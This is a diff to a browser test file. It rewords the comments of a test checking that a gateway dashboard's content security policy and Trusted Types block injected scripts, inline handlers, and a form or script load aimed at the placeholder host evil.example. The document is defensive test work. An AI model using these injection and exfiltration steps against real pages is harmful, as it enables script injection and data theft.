@@ -1,4 +1,4 @@
-// What somebody could do who has got into a page of the gateway: nothing that leads out of it. The content security policy is in the way.
+// Attacks from inside a compromised page of the gateway, which the content security policy blocks.
 
 import assert from "node:assert/strict";
 import { after, test } from "node:test";
@@ -11,7 +11,7 @@ import * as ui from "./harness/ui.mjs";
 
 const EVIL = "https://evil.example";
 
-/** Each runs in the dashboard's own page, as if somebody had got so far, and is told with the directive that stops it. */
+/** Attacks that run in the dashboard's own page, each with the directive that blocks it. */
 const STOPPED = {
   "an inline script": ["require-trusted-types-for", () => add("script", { text: "window.broken = true" })],
   "a handler in markup": ["require-trusted-types-for", () => add("p").setAttribute("onclick", "window.broken = true")],
@@ -32,7 +32,7 @@ const STOPPED = {
   "a form to elsewhere": ["form-action", (evil) => add("form", { action: evil, method: "post" }).submit()],
 };
 
-/** Each is stopped before that, for whatever can run goes through the page's own policy of Trusted Types. */
+/** Attacks that Trusted Types block earlier. */
 const REFUSED = {
   "a script from elsewhere": (evil) => add("script", { src: `${evil}/x.js` }),
   "an object from elsewhere": (evil) => add("object", { data: `${evil}/x.swf` }),
@@ -43,7 +43,7 @@ const browser = await launch();
 const server = await startGatewayDashboard();
 after(() => server.stop());
 
-/** Notes what the policy stops, and makes elements as a script does. */
+/** Records policy violations, and adds elements as a script does. */
 function prepare() {
   window.stopped = [];
   addEventListener("securitypolicyviolation", ({ effectiveDirective }) => window.stopped.push(effectiveDirective));
@@ -54,12 +54,12 @@ function prepare() {
   };
 }
 
-/** How often the browser has reported that the directive stopped something. */
+/** Number of violations of a directive that the browser has reported. */
 function reported(directive) {
   return server.log().split("\n").filter((line) => line.includes(`directive="${directive}"`)).length;
 }
 
-test("whoever breaks into a page gets nothing out of it", async () => {
+test("a compromised page cannot send data anywhere", async () => {
   const context = await browser.newContext();
   after(() => context.close());
   await context.addInitScript(prepare);
@@ -72,7 +72,7 @@ test("whoever breaks into a page gets nothing out of it", async () => {
   const expected = new Map();
   for (const [what, [directive, act]] of Object.entries(STOPPED)) {
     await page.evaluate(() => (window.stopped.length = 0));
-    // Some of them tell whoever tries as well.
+    // Some attacks also throw.
     await page.evaluate(act, EVIL).catch(() => {});
     const isStopped = page.waitForFunction((directive) => window.stopped.includes(directive), directive, { timeout: 5_000 });
     await isStopped.catch(() => assert.fail(`${what} is not stopped by ${directive}`));
@@ -83,7 +83,7 @@ test("whoever breaks into a page gets nothing out of it", async () => {
   }
   assert.equal(await page.evaluate(() => window.broken), undefined);
   assert.deepEqual([...new Set(left)], [new URL(server.address).origin]);
-  // Each is in the log of the gateway as well, without what was to be carried away.
+  // The gateway logs each report, without the stolen data.
   for (const [directive, count] of expected) {
     await until(() => reported(directive) >= count);
   }
